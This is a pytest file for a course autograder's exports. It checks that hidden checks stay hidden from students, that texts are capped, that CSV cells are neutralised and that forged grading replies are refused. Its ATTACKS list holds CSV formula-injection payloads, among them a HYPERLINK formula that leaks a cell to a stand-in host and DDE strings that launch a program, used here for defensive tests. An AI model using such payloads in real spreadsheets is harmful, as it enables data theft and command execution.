"""What the grader stores and exports: the students' files say nothing of a hidden check unless
the instructor asks, every text a result holds is capped, and every CSV is safe to open in a
spreadsheet.

The records are built as the batch builds them (``from_results`` on ``GradingResults``) and
rendered by the real exporters; the end-to-end runs are in ``test_batch`` and
``test_hidden_checks``.
"""

from __future__ import annotations

import csv
import io
import json
import sqlite3
import xml.etree.ElementTree as ET
from pathlib import Path

import pytest

from grader.batch import exports
from grader.batch.feedback import feedback_markdown
from grader.batch.gradebook import Gradebook
from grader.batch.records import LessonInfo, LessonRecord, from_results
from grader.curriculum import find_lesson
from grader.results import MESSAGE_LIMIT, TEXT_LIMITS, CheckResult, GradingResults, capped

LESSON1 = find_lesson("lesson1")
LESSONS = {LESSON1.stem: LessonInfo(LESSON1.stem, 1, LESSON1.title)}
#: the hidden check's failure as issue 17 quotes it: an honest wrong answer, no attack at all
HIDDEN_MESSAGE = "fibonacci(40): expected last three [5702887, 9227465, 14930352]"
HIDDEN_HINT = "Keep multiplying by [[0, 1], [1, 1]] for every number asked for."
HIDDEN_OUTPUT = "debug: asked for 40 numbers"


def _check(id_: str, *, passed: bool, visibility: str = "visible", message: str = "",
           hint: str = "", output: str = "", outcome: str | None = None) -> CheckResult:
    return CheckResult(id=id_, title=f"title of {id_}", max_points=2.0,
                       points=2.0 if passed else 0.0, status="passed" if passed else "failed",
                       message=message, hint=hint, output=output,
                       outcome=outcome or ("passed" if passed else "failed"),
                       visibility=visibility)


def _record(*checks: CheckResult, student: str = "bob") -> LessonRecord:
    results = GradingResults(LESSON1.stem, LESSON1.title, "f.py", "0" * 64, "v",
                             checks=list(checks))
    return from_results(student, LESSON1, results, "v")


def _student_files(record: LessonRecord, *, hidden: bool) -> dict[str, str]:
    records = [record]
    return {
        "results.json": exports.gradescope_json(record.student, records, LESSONS, hidden=hidden),
        "junit.xml": exports.junit_xml(record.student, records, LESSONS, hidden=hidden),
        "feedback.md": feedback_markdown(record.student, records, LESSONS, hidden=hidden),
    }


# -- a hidden check's details stay with the instructor --------------------------------------------


def _honest_wrong_answer(visibility: str) -> LessonRecord:
    return _record(
        _check("visible_ok", passed=True, hint="visible hint"),
        _check("extra_fib", passed=False, visibility=visibility, message=HIDDEN_MESSAGE,
               hint=HIDDEN_HINT, output=HIDDEN_OUTPUT),
    )


@pytest.mark.parametrize("visibility", ["hidden", "after_due_date", "after_published"])
def test_no_student_file_carries_a_hidden_checks_message_hint_or_output(visibility) -> None:
    files = _student_files(_honest_wrong_answer(visibility), hidden=False)
    for name, text in files.items():
        for secret in ("5702887", "14930352", HIDDEN_HINT, HIDDEN_OUTPUT):
            assert secret not in text, (name, secret)
    # the check still counts where the score is given, with no detail
    document = json.loads(files["results.json"])
    assert (document["score"], document["max_score"]) == (2, 4)
    test = next(t for t in document["tests"] if t["extra_data"]["check"] == "extra_fib")
    assert (test["status"], test["visibility"], test["extra_data"]["learner_output"]) == (
        "failed", visibility, "")
    assert "not shown" in test["output"]
    suites = ET.fromstring(files["junit.xml"])
    assert (suites.get("tests"), suites.get("failures")) == ("2", "1")


def test_the_instructor_can_ask_for_the_hidden_details() -> None:
    files = _student_files(_honest_wrong_answer("hidden"), hidden=True)
    for name, text in files.items():
        assert "14930352" in text and HIDDEN_HINT in text, name


def test_a_visible_check_keeps_its_message_hint_and_output() -> None:
    """The honest twin: the same failure in a visible check is shown in every file."""
    files = _student_files(_honest_wrong_answer("visible"), hidden=False)
    for name, text in files.items():
        assert "14930352" in text and HIDDEN_HINT in text and HIDDEN_OUTPUT in text, name


def test_a_lesson_problem_line_does_not_quote_a_hidden_check() -> None:
    record = _record(_check("visible_ok", passed=True),
                     _check("extra", passed=False, visibility="hidden", outcome="timeout",
                            message=f"timed out; {HIDDEN_MESSAGE}"))
    assert record.status == "timeout"
    assert record.problem == "title of extra: timeout"
    twin = _record(_check("visible_ok", passed=True),
                   _check("extra", passed=False, outcome="timeout",
                          message=f"timed out; {HIDDEN_MESSAGE}"))
    assert HIDDEN_MESSAGE in twin.problem


# -- every text is capped where results are made ------------------------------------------------


def test_capped_keeps_head_and_tail_and_says_how_much_was_cut() -> None:
    assert capped("short") == "short"
    text = "HEAD" + "x" * 1_000_000 + "TAIL"
    short = capped(text)
    assert len(short) <= MESSAGE_LIMIT
    assert short.startswith("HEAD") and short.endswith("TAIL")
    cut = int(short.split("[… ", 1)[1].split(" characters", 1)[0].replace(",", ""))
    kept = len(short) - len(short.split("\n[…", 1)[1].split("…]\n", 1)[0]) - len("\n[……]\n")
    assert cut + kept == len(text)


def test_a_result_caps_its_texts_when_made_and_when_changed() -> None:
    tag = "t" * (4 * 2**20)  # lesson 9: a learner's 4 MiB tag quoted whole in a message
    check = _check("big", passed=False, message=f"tag {tag!r} not found", hint=tag,
                   output=tag)
    for name in ("message", "hint", "output"):
        assert len(getattr(check, name)) <= TEXT_LIMITS[name], name
    check.message = tag  # as the plugin does when it blames a dependency
    assert len(check.message) <= MESSAGE_LIMIT
    results = GradingResults("l", "t", "f.py", "0" * 64, "v", problem=tag)
    assert len(results.problem) <= MESSAGE_LIMIT
    record = LessonRecord("s", "l", "graded", None, "v", problem=tag)
    assert len(record.problem) <= MESSAGE_LIMIT


def test_five_huge_tags_make_small_exports_and_a_small_gradebook(tmp_path: Path) -> None:
    tags = ["loss" + str(n) * (4 * 2**20) for n in range(5)]
    checks = [_check(f"tag{n}", passed=False, message=f"tag {tag!r} was not logged",
                     output=tag) for n, tag in enumerate(tags)]
    record = _record(*checks)
    record.problem = "; ".join(tags)
    written = exports.write_all(tmp_path / "out", [record], LESSONS)
    with Gradebook(tmp_path / "gradebook.db") as book:
        book.register(["bob"], [(LESSON1, "v")])
        book.record(record)
    sizes = {path.name: path.stat().st_size for path in written}
    assert all(size < 200_000 for size in sizes.values()), sizes
    assert (tmp_path / "gradebook.db").stat().st_size < 1_000_000
    with sqlite3.connect(tmp_path / "gradebook.db") as db:
        longest = db.execute("SELECT max(length(message)) FROM check_results").fetchone()[0]
    assert longest <= MESSAGE_LIMIT


# -- CSV cells never run as formulas ------------------------------------------------------------

ATTACKS = ['=HYPERLINK("http://evil.example/?leak="&B3,"Alice")', "+1+cmd|' /C calc'!A0",
           "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


def _cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def _formulas(text: str) -> list[str]:
    from grader.batch.spreadsheet import FORMULA_STARTS

    return [cell for row in _cells(text) for cell in row
            if cell.startswith(FORMULA_STARTS) and not cell.lstrip("+-").replace(".", "")
            .isdigit()]


@pytest.mark.parametrize("attack", ATTACKS)
def test_grades_csv_neutralises_formulas_in_folder_names_and_problems(attack: str) -> None:
    record = _record(_check("c", passed=True), student=attack)
    record.problem = attack
    text = exports.grades_csv([record], LESSONS)
    assert _formulas(text) == []
    row = _cells(text)[1]
    assert row[0] == "'" + attack and row[5] == "'" + attack
    assert row[2:4] == ["2", "2"]  # the scores still read as numbers


def test_grades_csv_leaves_honest_cells_as_they_are() -> None:
    record = _record(_check("c", passed=False, message="x"), student="o'brien-2")
    row = _cells(exports.grades_csv([record], LESSONS))[1]
    assert row[:4] == ["o'brien-2", "lesson1", "0", "2"]


def _lms_export(tmp_path: Path, lms: str, header: str, rows: list[list[str]]) -> list[list[str]]:
    from grader.batch.lms import export, read_roster

    roster = tmp_path / "roster.csv"
    buffer = io.StringIO()
    csv.writer(buffer).writerows([header.split(","), *rows])
    roster.write_text(buffer.getvalue(), encoding="utf-8")
    records = [_record(_check("c", passed=True), student=row[-1]) for row in rows]
    return _cells(export(read_roster(roster, lms), records, LESSONS).text)


@pytest.mark.parametrize("attack", ATTACKS)
def test_canvas_csv_neutralises_roster_cells_and_keeps_its_import_columns(
        tmp_path: Path, attack: str) -> None:
    rows = [[attack, "101", attack, attack, attack, "evil"],
            ["Liddell, Alice", "102", "S2", "alice@uni.edu", "Sec A", "alice"]]
    cells = _lms_export(tmp_path, "canvas", "Student,ID,SIS User ID,SIS Login ID,Section,folder",
                        rows)
    assert _formulas("\n".join(",".join(f'"{c}"' for c in row) for row in cells)) == []
    column = f"Lesson 1: {LESSON1.title.replace('(', '[').replace(')', ']')}"
    assert cells[0] == ["Student", "ID", "SIS User ID", "SIS Login ID", "Section", column]
    assert cells[1] == ["Points Possible", "", "", "", "", "2"]
    assert cells[2] == ["'" + attack.strip(), "101", *["'" + attack.strip()] * 3, "2"]
    assert cells[3] == ["Liddell, Alice", "102", "S2", "alice@uni.edu", "Sec A", "2"]


@pytest.mark.parametrize("attack", ATTACKS)
def test_moodle_csv_neutralises_the_identifier_and_keeps_its_import_columns(
        tmp_path: Path, attack: str) -> None:
    rows = [[attack + "@evil.example", "evil"], ["alice@uni.edu", "alice"]]
    cells = _lms_export(tmp_path, "moodle", "Email address,folder", rows)
    assert cells[0][0] == "Email address" and cells[0][1].startswith("Lesson 1: ")
    assert cells[1] == ["'" + attack.strip() + "@evil.example", "2"]
    assert cells[2] == ["alice@uni.edu", "2"]


def test_safe_cell_keeps_plain_numbers() -> None:
    from grader.batch.spreadsheet import safe_cell

    assert [safe_cell(v) for v in ("-2.5", "+3", "1e-3", "", None, 4)] == [
        "-2.5", "+3", "1e-3", "", "", "4"]
    assert [safe_cell(v) for v in ("-2+3", "=1", "@a", "\t1", "\r1")] == [
        "'-2+3", "'=1", "'@a", "'\t1", "'\r1"]


def test_a_carriage_return_inside_a_cell_does_not_split_the_row() -> None:
    record = _record(_check("c", passed=True), student="alice")
    record.problem = "first\rsecond"
    rows = _cells(exports.grades_csv([record], LESSONS))
    assert len(rows) == 2 and rows[1][0] == "alice" and rows[1][5] == "first\rsecond"


# -- the grader version covers every file that can change a verdict -----------------------------


@pytest.fixture(scope="module")
def clone(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A second copy of the grader package and the course, as in a second clone."""
    import shutil

    from grader.batch.versions import ENGINE

    root = tmp_path_factory.mktemp("clone")
    ignore = shutil.ignore_patterns("__pycache__")
    shutil.copytree(ENGINE, root / "grader", ignore=ignore)
    shutil.copytree(LESSON1.folder.parent, root / "course", ignore=ignore)
    return root


def _versions(root: Path) -> dict[str, str]:
    from grader.batch.versions import version_of

    return {name: version_of(root / "course" / name, root / "grader")
            for name in ("lesson1_warmup", "lesson2_linear_regression", "lesson8_make_art")}


def test_a_clone_has_the_same_versions_as_the_installed_grader(clone: Path) -> None:
    from grader.batch.versions import ENGINE, grader_version

    assert _versions(clone) == {lesson.stem: grader_version(lesson) for lesson in map(
        find_lesson, ("lesson1", "lesson2", "lesson8"))}
    assert ENGINE.name == "grader"


@pytest.mark.parametrize(("changed", "regraded"), [
    ("course/lesson2_linear_regression/reference.py", {"lesson2_linear_regression"}),
    ("course/lesson8_make_art/network.py", {"lesson8_make_art"}),
    ("course/lesson8_make_art/a_new_helper.py", {"lesson8_make_art"}),
    ("course/lesson1_warmup/checks.py", {"lesson1_warmup"}),
    ("course/course.toml", "all"),
    ("grader/pytest.ini", "all"),
    ("grader/data/base_model.npz", "all"),
    ("grader/batch/worker.py", "all"),
    ("grader/batch/scheduling.py", "all"),
    ("grader/learner/sandbox.py", "all"),
    ("grader/gradescope/files/setup.sh", "all"),
    ("grader/a_new_module.py", "all"),
    ("grader/sitebuild/render.py", set()),  # the site builder grades nothing
    ("course/lesson1_warmup/notes.md", set()),  # the notes grade nothing
    ("course/lesson2_linear_regression/audit.toml", set()),  # nor does an audit record
])
def test_changing_any_file_that_grades_changes_the_version(
        clone: Path, changed: str, regraded: set[str] | str) -> None:
    before = _versions(clone)
    path = clone / changed
    original = path.read_bytes() if path.exists() else None
    try:
        path.write_bytes((original or b"") + b"\n# changed\n")
        after = _versions(clone)
    finally:
        if original is None:
            path.unlink()
        else:
            path.write_bytes(original)
    moved = {name for name in before if before[name] != after[name]}
    assert moved == (set(before) if regraded == "all" else regraded)
    assert _versions(clone) == before


# -- a worker's reply is believed only if this grader could have made it -------------------------

HIDDEN_DIR = Path(__file__).resolve().parent / "hidden_checks"
SHA = "a" * 64


def _honest_reply(hidden=None, *, passed: bool = True) -> dict:
    from grader.batch.records import checks_with_visibility

    checks = [CheckResult(id=info.id, title=info.title, max_points=info.points,
                          points=info.points if passed else 0.0,
                          status="passed" if passed else "failed",
                          outcome="passed" if passed else "failed", visibility=visibility)
              for info, visibility in checks_with_visibility(LESSON1, hidden)]
    results = GradingResults(LESSON1.stem, LESSON1.title, "f.py", SHA, "v", checks=checks)
    return {"results": json.loads(json.dumps(results.to_dict()))}  # as it crosses the wire


def _forge(change) -> dict:
    reply = _honest_reply()
    change(reply["results"], reply["results"]["checks"])
    return reply


def _set(target: dict, **values) -> None:
    target.update(values)


FORGERIES = {
    "1000/1000": lambda r, c: [_set(x, max_points=1000, points=1000) for x in c],
    "points above the check's": lambda r, c: _set(c[0], points=c[0]["points"] + 1),
    "failed yet scored": lambda r, c: [_set(x, status="failed", outcome="failed") for x in c[:1]],
    "passed with an odd status": lambda r, c: _set(c[0], status="excellent"),
    "passed yet the outcome failed": lambda r, c: _set(c[0], outcome="failed"),
    "a check added": lambda r, c: c.append({**c[0], "id": "bonus"}),
    "a check dropped": lambda r, c: c.pop(),
    "a check twice": lambda r, c: c.__setitem__(1, dict(c[0])),
    "checks reordered": lambda r, c: c.reverse(),
    "another lesson": lambda r, c: _set(r, lesson="lesson2_linear_regression"),
    "another file": lambda r, c: _set(r, sha256="b" * 64),
    "points as text": lambda r, c: _set(c[0], points=str(c[0]["points"])),
    "points as true": lambda r, c: _set(c[0], points=True, max_points=True),
    "points not finite": lambda r, c: _set(c[0], points=float("inf")),
    "a message that is not text": lambda r, c: _set(c[0], message={"x": 1}),
    "an unknown field": lambda r, c: _set(c[0], bonus=5),
    "a field missing": lambda r, c: c[0].pop("status"),
    "checks not a list": lambda r, c: _set(r, checks={"a": 1}),
    "a measurement that is not one": lambda r, c: _set(c[0], measurements=[{"value": "1"}]),
    "a measurement not finite": lambda r, c: _set(c[0], measurements=[
        {"name": "accuracy", "value": float("nan"), "threshold": 0.9, "at_least": True}]),
}


def test_an_honest_reply_is_accepted_as_it_is() -> None:
    from grader.batch.replies import results_of

    results = results_of(_honest_reply(), LESSON1, SHA)
    assert results.total == results.possible == LESSON1.max_points
    failed = results_of(_honest_reply(passed=False), LESSON1, SHA)
    assert failed.total == 0 and failed.possible == LESSON1.max_points
    measured = _honest_reply()  # what grade audit reads: a check's measured thresholds
    measured["results"]["checks"][0]["measurements"] = [
        {"name": "held-out accuracy", "value": 0.93, "threshold": 0.91, "at_least": True}]
    assert results_of(measured, LESSON1, SHA).checks[0].measurements[0]["value"] == 0.93


@pytest.mark.parametrize("name", FORGERIES)
def test_a_forged_or_malformed_reply_is_refused(name: str) -> None:
    from grader.batch.replies import BadReply, results_of

    with pytest.raises(BadReply):
        results_of(_forge(FORGERIES[name]), LESSON1, SHA)


@pytest.mark.parametrize("reply", [None, "1000", [], {"results": "1000/1000"},
                                   {"results": []}, {"results": {}}])
def test_a_reply_that_is_not_results_is_refused(reply) -> None:
    from grader.batch.replies import BadReply, results_of

    with pytest.raises(BadReply):
        results_of(reply, LESSON1, SHA)


def test_a_reply_must_hold_the_hidden_checks_with_their_visibility() -> None:
    from grader.batch.replies import BadReply, results_of
    from grader.hidden import HiddenChecks

    hidden = HiddenChecks.from_dir(HIDDEN_DIR)
    honest = _honest_reply(hidden)
    assert results_of(honest, LESSON1, SHA, hidden).possible > LESSON1.max_points
    with pytest.raises(BadReply):  # the hidden checks left out: a higher share of the points
        results_of(_honest_reply(), LESSON1, SHA, hidden)
    shown = _honest_reply(hidden)
    shown["results"]["checks"][-1]["visibility"] = "visible"
    with pytest.raises(BadReply):
        results_of(shown, LESSON1, SHA, hidden)


@pytest.mark.parametrize("name", ["1000/1000", "a field missing", "checks not a list"])
def test_the_batch_records_a_bad_reply_as_that_files_grader_error(
        tmp_path: Path, name: str) -> None:
    """A forged or malformed reply costs that one file (0 points, graded again on the next
    run), not the whole batch; the honest reply earns its points."""
    from grader.batch.scheduling import Done, Job
    from grader.commands.batch import _record_of

    path = tmp_path / LESSON1.filename
    path.write_text("x = 1\n", encoding="utf-8")
    job = Job("mallory", LESSON1, path)
    record = _record_of(Done(job, _forge(FORGERIES[name])), {LESSON1.stem: "v"})
    assert (record.status, record.score, record.sha256) == ("grader error", 0, None)
    assert record.max_score == LESSON1.max_points
    assert "cannot have made" in record.problem and "\n" not in record.problem
    honest = _record_of(Done(job, _honest_reply()), {LESSON1.stem: "v"})
    assert (honest.status, honest.score) == ("graded", LESSON1.max_points)
